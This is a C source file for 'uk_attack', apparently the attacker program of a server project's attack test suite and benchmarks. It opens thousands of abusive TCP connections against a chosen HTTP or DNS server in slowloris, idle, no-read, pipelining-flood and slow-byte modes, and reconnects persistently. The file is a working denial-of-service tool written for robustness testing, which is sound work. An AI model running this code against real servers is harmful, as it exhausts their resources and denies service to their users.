/*
 * uk_attack.c - the attacker of the attack suite (tests/attack/) and of
 * bench/attack.sh: thousands of abusive TCP connections from one Linux
 * process (epoll, non-blocking sockets), against any HTTP or DNS server.
 *
 *   uk_attack MODE ADDR PORT [conns=N] [seconds=S] [interval_ms=I]
 *             [depth=K] [path=/P] [qname=NAME]
 *
 * MODE is one of:
 *   slowloris  N connections each send a request head's first line and
 *              Host, then one more byte every I ms (default 3000), never
 *              ending the head;
 *   idle       N connections each send one complete GET (keep-alive), read
 *              the answer, then say nothing more;
 *   noread     N connections each ask for P (a large file) with a 4 KiB
 *              receive buffer and never read;
 *   http-pipe  N connections (default 1) each write K GETs (default 450)
 *              in one burst, read the answers, and start again;
 *   dns-pipe   N connections (default 1) each write K DNS queries (default
 *              240) for NAME, 2-byte framed, in one burst, read the
 *              answers, and start again;
 *   dns-idle   N connections connect to a DNS server and send nothing;
 *   dns-slow   N connections send a framed DNS query one byte every I ms
 *              (default 4000).
 * An attacker does not give up: a connection the server closes, or that
 * fails, is opened again after a second, for S seconds (default 20).
 *
 * Output (stdout): one line a second, then a summary line
 *   uk_attack MODE: attempts=.. established=.. peak_open=.. ...
 * Exit status: 0 after S seconds, 2 on a usage or set-up error.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum mode { SLOWLORIS, IDLE, NOREAD, HTTP_PIPE, DNS_PIPE, DNS_IDLE, DNS_SLOW };
static const char *const mode_names[] = {"slowloris", "idle",     "noread",
                                         "http-pipe", "dns-pipe", "dns-idle",
                                         "dns-slow"};

enum state { WAITING, CONNECTING, OPEN };

struct conn {
    int fd;
    enum state state;
    uint64_t due_ns;   /* WAITING: reconnect; CONNECTING: give up; OPEN:
                          next slow byte */
    size_t sent;       /* bytes of out[] written */
    unsigned answers;  /* pipelines: answers of the current burst */
    size_t match;      /* http-pipe: bytes of the status pattern matched */
    uint8_t hdr[2];    /* dns-pipe: the frame length being read */
    size_t frame_left; /* dns-pipe: bytes of the frame still to skip, or
                          2 - bytes of hdr[] when 0 */
    unsigned hdr_got;
    int want_out;      /* EPOLLOUT is registered */
};

static struct {
    enum mode mode;
    struct sockaddr_in dst;
    unsigned conns, seconds, interval_ms, depth;
    const char *path, *qname;
    uint8_t *out; /* what each connection writes (the whole burst) */
    size_t out_len, head_len; /* slowloris/dns-slow: head sent at once */
    struct conn *c;
    int ep;
    /* statistics */
    unsigned long attempts, established, connect_failed, peer_closed,
        bursts_ok, bursts_short, answers;
    unsigned open, connecting, peak_open;
} A;

static const char STATUS[] = "HTTP/1.1 200 "; /* 'H' occurs once in it */

static uint64_t now_ns(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (uint64_t)ts.tv_sec * 1000000000u + (uint64_t)ts.tv_nsec;
}

static void die(const char *what)
{
    fprintf(stderr, "uk_attack: %s: %s\n", what, strerror(errno));
    exit(2);
}

static void usage(void)
{
    fprintf(stderr,
            "usage: uk_attack slowloris|idle|noread|http-pipe|dns-pipe|"
            "dns-idle|dns-slow ADDR PORT [conns=N] [seconds=S] "
            "[interval_ms=I] [depth=K] [path=/P] [qname=NAME]\n");
    exit(2);
}

/* Appends a DNS query for NAME type A, id ID, with its 2-byte frame. */
static size_t dns_query(uint8_t *p, const char *name, unsigned id)
{
    uint8_t *q = p + 2;
    size_t n = 0;
    const char *s = name;
    memset(q, 0, 12);
    q[0] = (uint8_t)(id >> 8);
    q[1] = (uint8_t)id;
    q[5] = 1; /* QDCOUNT */
    n = 12;
    while (*s != '\0') {
        const char *dot = strchr(s, '.');
        size_t l = dot ? (size_t)(dot - s) : strlen(s);
        q[n++] = (uint8_t)l;
        memcpy(q + n, s, l);
        n += l;
        s += l;
        if (*s == '.')
            s++;
    }
    q[n++] = 0;
    q[n++] = 0, q[n++] = 1; /* A */
    q[n++] = 0, q[n++] = 1; /* IN */
    p[0] = (uint8_t)(n >> 8);
    p[1] = (uint8_t)n;
    return n + 2;
}

/* Builds A.out: the bytes every connection writes. */
static void build_out(void)
{
    char req[512];
    size_t i, n;
    int len;
    switch (A.mode) {
    case SLOWLORIS:
        len = snprintf(req, sizeof req,
                       "GET %s HTTP/1.1\r\nHost: attack\r\nX-a: b\r\n",
                       A.path);
        A.out = (uint8_t *)strdup(req);
        A.out_len = (size_t)len;
        A.head_len = (size_t)len - 8; /* "X-a: b\r\n" goes a byte at a time */
        break;
    case IDLE:
    case NOREAD:
        len = snprintf(req, sizeof req, "GET %s HTTP/1.1\r\nHost: attack\r\n\r\n",
                       A.path);
        A.out = (uint8_t *)strdup(req);
        A.out_len = (size_t)len;
        break;
    case HTTP_PIPE:
        len = snprintf(req, sizeof req, "GET %s HTTP/1.1\r\nHost: attack\r\n\r\n",
                       A.path);
        A.out = malloc((size_t)len * A.depth);
        if (A.out == NULL)
            die("malloc");
        for (i = 0; i < A.depth; i++)
            memcpy(A.out + i * (size_t)len, req, (size_t)len);
        A.out_len = (size_t)len * A.depth;
        break;
    case DNS_PIPE:
    case DNS_SLOW:
        A.out = malloc((strlen(A.qname) + 20) * A.depth);
        if (A.out == NULL)
            die("malloc");
        for (i = 0, n = 0; i < A.depth; i++)
            n += dns_query(A.out + n, A.qname, (unsigned)i + 1);
        A.out_len = n;
        break;
    case DNS_IDLE:
        A.out = NULL;
        A.out_len = 0;
        break;
    }
}

static void conn_wait(struct conn *c, uint64_t t, uint64_t delay_ns)
{
    if (c->fd >= 0) {
        close(c->fd);
        if (c->state == OPEN)
            A.open--;
        else if (c->state == CONNECTING)
            A.connecting--;
    }
    c->fd = -1;
    c->state = WAITING;
    c->due_ns = t + delay_ns;
}

static void conn_start(struct conn *c, unsigned idx, uint64_t t)
{
    struct epoll_event ev;
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    A.attempts++;
    if (fd < 0) {
        A.connect_failed++;
        conn_wait(c, t, 1000000000u);
        return;
    }
    if (A.mode == NOREAD) {
        int small = 4096;
        setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
    }
    if (connect(fd, (struct sockaddr *)&A.dst, sizeof A.dst) < 0 &&
        errno != EINPROGRESS) {
        close(fd);
        A.connect_failed++;
        conn_wait(c, t, 1000000000u);
        return;
    }
    memset(c, 0, sizeof *c);
    c->fd = fd;
    c->state = CONNECTING;
    c->due_ns = t + 5000000000u; /* connect timeout */
    A.connecting++;
    ev.events = EPOLLOUT | EPOLLIN | EPOLLRDHUP;
    ev.data.u32 = idx;
    if (epoll_ctl(A.ep, EPOLL_CTL_ADD, fd, &ev) < 0)
        die("epoll_ctl");
}

/* Writes out[sent..limit); returns -1 when the connection broke. */
static int conn_write(struct conn *c, size_t limit)
{
    while (c->sent < limit) {
        ssize_t n = send(c->fd, A.out + c->sent, limit - c->sent,
                         MSG_NOSIGNAL);
        if (n < 0)
            return errno == EAGAIN || errno == EWOULDBLOCK ? 0 : -1;
        c->sent += (size_t)n;
    }
    return 0;
}

/* Watches fd for input, and for room to write while a burst is unsent. */
static void conn_watch(struct conn *c)
{
    struct epoll_event e;
    int out = (A.mode == HTTP_PIPE || A.mode == DNS_PIPE) &&
              c->sent < A.out_len;
    if (out == c->want_out)
        return;
    c->want_out = out;
    e.events = (A.mode == NOREAD ? 0 : EPOLLIN) | EPOLLRDHUP |
               (out ? EPOLLOUT : 0);
    e.data.u32 = (uint32_t)(c - A.c);
    if (epoll_ctl(A.ep, EPOLL_CTL_MOD, c->fd, &e) < 0)
        die("epoll_ctl");
}

/* The burst of a pipelining connection has all its answers: the next one. */
static void burst_done(struct conn *c)
{
    A.bursts_ok++;
    c->answers = 0;
    c->sent = 0;
}

/* Counts the answers in data (pipelines); discards it otherwise. */
static void consume(struct conn *c, const uint8_t *d, size_t n)
{
    size_t i;
    if (A.mode == HTTP_PIPE) {
        for (i = 0; i < n; i++) {
            if (d[i] == (uint8_t)STATUS[c->match])
                c->match++;
            else
                c->match = d[i] == (uint8_t)STATUS[0];
            if (c->match == sizeof STATUS - 1) {
                c->match = 0;
                A.answers++;
                if (++c->answers == A.depth)
                    burst_done(c);
            }
        }
    } else if (A.mode == DNS_PIPE) {
        for (i = 0; i < n;) {
            if (c->frame_left > 0) {
                size_t k = n - i < c->frame_left ? n - i : c->frame_left;
                c->frame_left -= k;
                i += k;
                if (c->frame_left == 0) {
                    A.answers++;
                    if (++c->answers == A.depth)
                        burst_done(c);
                }
                continue;
            }
            c->hdr[c->hdr_got++] = d[i++];
            if (c->hdr_got == 2) {
                c->hdr_got = 0;
                c->frame_left = ((size_t)c->hdr[0] << 8) | c->hdr[1];
                if (c->frame_left == 0) { /* an empty frame: an answer */
                    A.answers++;
                    if (++c->answers == A.depth)
                        burst_done(c);
                }
            }
        }
    }
}

/* The first write of a fresh connection. */
static size_t first_limit(void)
{
    switch (A.mode) {
    case SLOWLORIS:
        return A.head_len;
    case DNS_SLOW:
        return 1;
    default:
        return A.out_len;
    }
}

static void conn_event(struct conn *c, uint32_t ev, uint64_t t)
{
    uint8_t buf[65536];
    if (c->state == CONNECTING) {
        int err = 0;
        socklen_t len = sizeof err;
        if ((ev & (EPOLLERR | EPOLLHUP)) ||
            getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &len) < 0 ||
            err != 0) {
            A.connect_failed++;
            conn_wait(c, t, 1000000000u);
            return;
        }
        if (!(ev & EPOLLOUT))
            return;
        c->state = OPEN;
        A.connecting--;
        A.established++;
        if (++A.open > A.peak_open)
            A.peak_open = A.open;
        c->due_ns = t + (uint64_t)A.interval_ms * 1000000u;
        if (conn_write(c, first_limit()) < 0)
            goto closed;
        c->want_out = 1; /* as registered by conn_start */
        conn_watch(c);
        return;
    }
    if (c->state != OPEN)
        return;
    if (A.mode == NOREAD) {
        if (ev & (EPOLLRDHUP | EPOLLHUP | EPOLLERR))
            goto closed;
        return;
    }
    if (ev & EPOLLIN) {
        for (;;) {
            ssize_t n = recv(c->fd, buf, sizeof buf, 0);
            if (n == 0)
                goto closed;
            if (n < 0) {
                if (errno == EAGAIN || errno == EWOULDBLOCK)
                    break;
                goto closed;
            }
            consume(c, buf, (size_t)n);
        }
    } else if (ev & (EPOLLHUP | EPOLLERR)) {
        goto closed;
    }
    if (A.mode == HTTP_PIPE || A.mode == DNS_PIPE) {
        if (conn_write(c, A.out_len) < 0)
            goto closed;
        conn_watch(c);
    }
    return;
closed:
    A.peer_closed++;
    if ((A.mode == HTTP_PIPE || A.mode == DNS_PIPE) && c->sent > 0)
        A.bursts_short++;
    conn_wait(c, t, 1000000000u);
}

/* Timers: reconnects, connect time-outs, slow bytes. */
static void tick(uint64_t t)
{
    unsigned i, started = 0;
    for (i = 0; i < A.conns; i++) {
        struct conn *c = &A.c[i];
        if (t < c->due_ns)
            continue;
        if (c->state == WAITING) {
            /* Ramp: a bounded number of connects in flight. */
            if (A.connecting >= 512 || started >= 256)
                continue;
            conn_start(c, i, t);
            started++;
        } else if (c->state == CONNECTING) {
            A.connect_failed++;
            conn_wait(c, t, 1000000000u);
        } else if (A.mode == SLOWLORIS || A.mode == DNS_SLOW) {
            size_t start = A.mode == SLOWLORIS ? A.head_len : 0;
            c->due_ns = t + (uint64_t)A.interval_ms * 1000000u;
            if (c->sent >= A.out_len)
                c->sent = start; /* slowloris repeats "X-a: b\r\n" */
            if (conn_write(c, c->sent + 1) < 0) {
                A.peer_closed++;
                conn_wait(c, t, 1000000000u);
            }
        }
    }
}

static void report(const char *prefix, unsigned secs)
{
    printf("%s%s t=%us: attempts=%lu established=%lu open=%u peak_open=%u "
           "connect_failed=%lu peer_closed=%lu",
           prefix, mode_names[A.mode], secs, A.attempts, A.established,
           A.open, A.peak_open, A.connect_failed, A.peer_closed);
    if (A.mode == HTTP_PIPE || A.mode == DNS_PIPE)
        printf(" answers=%lu bursts_ok=%lu bursts_short=%lu", A.answers,
               A.bursts_ok, A.bursts_short);
    printf("\n");
    fflush(stdout);
}

static void raise_fd_limit(unsigned need)
{
    struct rlimit rl;
    if (getrlimit(RLIMIT_NOFILE, &rl) != 0)
        die("getrlimit");
    if (rl.rlim_cur >= need)
        return;
    if (rl.rlim_max < need)
        rl.rlim_max = need; /* root may raise it */
    rl.rlim_cur = need;
    if (setrlimit(RLIMIT_NOFILE, &rl) != 0) {
        getrlimit(RLIMIT_NOFILE, &rl);
        fprintf(stderr, "uk_attack: %u connections need %u descriptors, the "
                        "limit is %lu\n",
                need, need, (unsigned long)rl.rlim_cur);
        exit(2);
    }
}

static unsigned arg_uint(const char *v)
{
    char *end;
    unsigned long x = strtoul(v, &end, 10);
    if (*v == '\0' || *end != '\0' || x == 0 || x > 1000000)
        usage();
    return (unsigned)x;
}

static void parse(int argc, char **argv)
{
    int i;
    unsigned m;
    if (argc < 4)
        usage();
    for (m = 0; m < sizeof mode_names / sizeof *mode_names; m++)
        if (strcmp(argv[1], mode_names[m]) == 0)
            break;
    if (m == sizeof mode_names / sizeof *mode_names)
        usage();
    A.mode = (enum mode)m;
    A.dst.sin_family = AF_INET;
    if (inet_pton(AF_INET, argv[2], &A.dst.sin_addr) != 1)
        usage();
    A.dst.sin_port = htons((uint16_t)arg_uint(argv[3]));
    A.conns = A.mode == HTTP_PIPE || A.mode == DNS_PIPE ? 1 : 100;
    A.seconds = 20;
    A.interval_ms = A.mode == DNS_SLOW ? 4000 : 3000;
    A.depth = A.mode == HTTP_PIPE ? 450 : A.mode == DNS_PIPE ? 240 : 1;
    A.path = "/";
    A.qname = "www.example.org";
    for (i = 4; i < argc; i++) {
        char *v = strchr(argv[i], '=');
        if (v == NULL)
            usage();
        *v++ = '\0';
        if (strcmp(argv[i], "conns") == 0)
            A.conns = arg_uint(v);
        else if (strcmp(argv[i], "seconds") == 0)
            A.seconds = arg_uint(v);
        else if (strcmp(argv[i], "interval_ms") == 0)
            A.interval_ms = arg_uint(v);
        else if (strcmp(argv[i], "depth") == 0)
            A.depth = arg_uint(v);
        else if (strcmp(argv[i], "path") == 0 && *v == '/' &&
                 strlen(v) < 256)
            A.path = v;
        else if (strcmp(argv[i], "qname") == 0 && strlen(v) < 200)
            A.qname = v;
        else
            usage();
    }
    if (A.mode != DNS_PIPE && A.mode != HTTP_PIPE && A.mode != DNS_SLOW)
        A.depth = 1;
}

static volatile sig_atomic_t stop;
static void on_signal(int sig)
{
    (void)sig;
    stop = 1;
}

int main(int argc, char **argv)
{
    struct epoll_event evs[256];
    uint64_t start, end, t, next_report;
    unsigned i;
    parse(argc, argv);
    build_out();
    raise_fd_limit(A.conns + 64);
    signal(SIGPIPE, SIG_IGN);
    signal(SIGTERM, on_signal);
    signal(SIGINT, on_signal);
    A.c = calloc(A.conns, sizeof *A.c);
    if (A.c == NULL)
        die("calloc");
    A.ep = epoll_create1(EPOLL_CLOEXEC);
    if (A.ep < 0)
        die("epoll_create1");
    start = now_ns();
    end = start + (uint64_t)A.seconds * 1000000000u;
    next_report = start + 1000000000u;
    for (i = 0; i < A.conns; i++) {
        A.c[i].fd = -1;
        A.c[i].state = WAITING;
        A.c[i].due_ns = start;
    }
    for (t = start; t < end && !stop; t = now_ns()) {
        int n = epoll_wait(A.ep, evs, 256, 20), k;
        t = now_ns();
        for (k = 0; k < n; k++)
            conn_event(&A.c[evs[k].data.u32], evs[k].events, t);
        tick(t);
        if (t >= next_report) {
            report("", (unsigned)((t - start) / 1000000000u));
            next_report += 1000000000u;
        }
    }
    report("uk_attack ", (unsigned)((now_ns() - start) / 1000000000u));
    for (i = 0; i < A.conns; i++)
        if (A.c[i].fd >= 0)
            close(A.c[i].fd);
    close(A.ep);
    free(A.c);
    free(A.out);
    return 0;
}
